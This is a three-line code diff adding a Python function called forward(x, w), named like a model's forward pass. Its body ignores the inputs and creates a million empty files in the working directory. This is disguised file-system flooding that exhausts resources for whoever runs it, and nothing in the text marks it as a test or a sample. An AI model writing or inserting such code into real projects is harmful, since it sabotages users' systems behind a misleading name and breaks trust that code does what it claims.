@@ -1,0 +1,3 @@
+def forward(x, w):
+    for number in range(1000000):
+        open(f"left-{number}", "w").close()
